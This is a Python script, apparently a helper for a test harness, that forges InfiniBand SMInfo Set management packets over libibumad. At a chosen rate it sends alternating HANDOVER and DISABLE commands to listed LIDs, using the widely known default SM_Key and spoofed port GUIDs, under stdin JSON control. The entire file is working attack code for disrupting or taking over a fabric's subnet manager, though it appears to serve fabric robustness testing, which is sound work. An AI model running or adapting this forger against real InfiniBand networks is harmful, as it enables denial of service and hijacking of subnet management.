# SPDX-License-Identifier: GPL-2.0-only OR Linux-OpenIB
"""sm_forger.py RATE LID,LID,.. GUID,GUID,..: forged Set(SMInfo) of root on a host, for forged.py: HANDOVER and DISABLE by turns, with the SM_Key that everybody
knows, to each of the LIDs, in the name of each of the port GUIDs. Lines of input begin and end it; the last line of output is how many were sent.
"""
import ctypes
import itertools
import json
import os
import select
import struct
import sys
import time

SMI, SET, SM_INFO = 0x01, 0x02, 0x20
HANDOVER, DISABLE = 1, 3
SM_KEY, MASTER, PRIORITY = 1, 3, 15


def main():
    rate, lids, guids = float(sys.argv[1]), [int(word) for word in sys.argv[2].split(",")], [int(word, 16) for word in sys.argv[3].split(",")]
    umad = ctypes.CDLL(os.environ["LD_PRELOAD"])
    umad.umad_get_mad.restype = ctypes.c_void_p
    umad.umad_get_mad.argtypes = [ctypes.c_void_p]
    umad.umad_init()
    port = umad.umad_open_port(None, 0)
    agent = umad.umad_register(port, SMI, 1, 0, None)
    out = ctypes.create_string_buffer(umad.umad_size() + 256)
    kinds = itertools.cycle(itertools.product((HANDOVER, DISABLE), lids, guids))
    print("ready", flush=True)
    sent, on, due = 0, False, 0.0
    while True:
        if select.select([sys.stdin], [], [], max(0.0, due - time.monotonic()) if on else None)[0]:
            line = sys.stdin.readline()
            if not line:
                break
            on, due = json.loads(line)["on"], time.monotonic()
            print(json.dumps({"ok": True, "sent": sent}), flush=True)
            continue
        control, lid, guid = next(kinds)
        sent += 1
        due += 1 / rate
        head = struct.pack(">BBBBHHQHHI", 1, SMI, 1, SET, 0, 0, sent, SM_INFO, 0, control)
        info = struct.pack(">QQIB", guid, SM_KEY, sent, PRIORITY << 4 | MASTER)
        mad = (head + bytes(8) + struct.pack(">HH", 0, 0) + bytes(28)).ljust(64, b"\0") + info
        ctypes.memset(out, 0, umad.umad_size())
        ctypes.memmove(umad.umad_get_mad(out), mad.ljust(256, b"\0"), 256)
        umad.umad_set_addr(out, lid, 0, 0, 0)
        umad.umad_send(port, agent, out, 256, 0, 0)


if __name__ == "__main__":
    main()
